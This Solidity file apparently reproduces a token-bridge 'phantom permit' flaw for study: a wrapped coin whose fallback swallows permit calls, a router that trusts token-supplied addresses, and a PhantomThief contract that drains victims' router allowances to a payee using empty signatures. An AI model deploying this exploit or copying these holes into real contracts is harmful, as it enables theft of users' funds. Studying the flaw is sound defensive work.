// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {Token} from "../props/Tokens.sol";

/// A wrapped coin that takes any call that it does not know for a deposit.
contract AnyCoin {
    string public constant name = "Wrapped AVAX";
    string public constant symbol = "WAVAX";
    uint8 public constant decimals = 18;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Approval(address indexed src, address indexed guy, uint256 wad);
    event Transfer(address indexed src, address indexed dst, uint256 wad);
    event Deposit(address indexed dst, uint256 wad);
    event Withdrawal(address indexed src, uint256 wad);

    fallback() external payable {
        deposit();
    }

    receive() external payable {
        deposit();
    }

    function deposit() public payable {
        balanceOf[msg.sender] += msg.value;
        emit Deposit(msg.sender, msg.value);
    }

    function withdraw(uint256 wad) external {
        balanceOf[msg.sender] -= wad;
        emit Withdrawal(msg.sender, wad);
        payable(msg.sender).transfer(wad);
    }

    function totalSupply() external view returns (uint256) {
        return address(this).balance;
    }

    function approve(address guy, uint256 wad) external returns (bool) {
        allowance[msg.sender][guy] = wad;
        emit Approval(msg.sender, guy, wad);
        return true;
    }

    function transfer(address dst, uint256 wad) external returns (bool) {
        return transferFrom(msg.sender, dst, wad);
    }

    function transferFrom(address src, address dst, uint256 wad) public returns (bool) {
        if (src != msg.sender && allowance[src][msg.sender] != type(uint256).max) allowance[src][msg.sender] -= wad;
        balanceOf[src] -= wad;
        balanceOf[dst] += wad;
        emit Transfer(src, dst, wad);
        return true;
    }
}

interface IAnyToken {
    function underlying() external view returns (address);
    function depositVault(uint256 amount, address to) external;
    function burn(address from, uint256 amount) external;
}

interface IAnyPermit {
    function permit(address owner, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external;
}

/// Stands for a token on other chains, and holds it.
contract AnyToken is IAnyToken {
    address public immutable underlying;
    address public immutable vault;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor(address underlying_, address vault_) {
        (underlying, vault) = (underlying_, vault_);
    }

    function depositVault(uint256 amount, address to) external {
        require(msg.sender == vault, "not the vault");
        balanceOf[to] += amount;
        totalSupply += amount;
        emit Transfer(address(0), to, amount);
    }

    function burn(address from, uint256 amount) external {
        require(msg.sender == vault, "not the vault");
        balanceOf[from] -= amount;
        totalSupply -= amount;
        emit Transfer(from, address(0), amount);
    }

    function withdrawVault(uint256 amount, address to) external {
        require(msg.sender == vault, "not the vault");
        Token(underlying).transfer(to, amount);
    }
}

/// Takes tokens for other chains, on an approval or on a permit. It asks the any-token for the token, and believes that
/// a permit that did not fail was one.
contract AnyRouter {
    address public immutable mpc = msg.sender;

    event LogAnySwapOut(address indexed token, address indexed from, address indexed to, uint256 amount, uint256 toChainID);
    event LogAnySwapIn(bytes32 indexed txhash, address indexed token, address indexed to, uint256 amount, uint256 fromChainID);

    function anySwapOutUnderlying(IAnyToken token, address to, uint256 amount, uint256 toChainID) external {
        require(Token(token.underlying()).transferFrom(msg.sender, address(token), amount), "not paid");
        out(token, msg.sender, to, amount, toChainID);
    }

    function anySwapOutUnderlyingWithPermit(
        address from,
        IAnyToken token,
        address to,
        uint256 amount,
        uint256 deadline,
        uint8 v,
        bytes32 r,
        bytes32 s,
        uint256 toChainID
    ) external {
        address underlying = token.underlying();
        IAnyPermit(underlying).permit(from, address(this), amount, deadline, v, r, s);
        require(Token(underlying).transferFrom(from, address(token), amount), "not paid");
        out(token, from, to, amount, toChainID);
    }

    function anySwapInUnderlying(bytes32 txs, AnyToken token, address to, uint256 amount, uint256 fromChainID) external {
        require(msg.sender == mpc, "not the network");
        token.withdrawVault(amount, to);
        emit LogAnySwapIn(txs, address(token), to, amount, fromChainID);
    }

    function out(IAnyToken token, address from, address to, uint256 amount, uint256 toChainID) private {
        token.depositVault(amount, from);
        token.burn(from, amount);
        emit LogAnySwapOut(address(token), from, to, amount, toChainID);
    }
}

/// Says that it is an any-token of whatever the victims approved.
contract PhantomThief is IAnyToken {
    address public underlying;

    function run(AnyRouter router, address coin, address[] calldata victims, address payee) external {
        underlying = coin;
        for (uint256 i = 0; i < victims.length; i++) {
            uint256 most = Token(coin).balanceOf(victims[i]);
            uint256 allowed = Token(coin).allowance(victims[i], address(router));
            uint256 amount = most < allowed ? most : allowed;
            router.anySwapOutUnderlyingWithPermit(victims[i], this, payee, amount, block.timestamp, 0, "", "", 56);
        }
        Token(coin).transfer(payee, Token(coin).balanceOf(address(this)));
    }

    function depositVault(uint256, address) external {}
    function burn(address, uint256) external {}
}
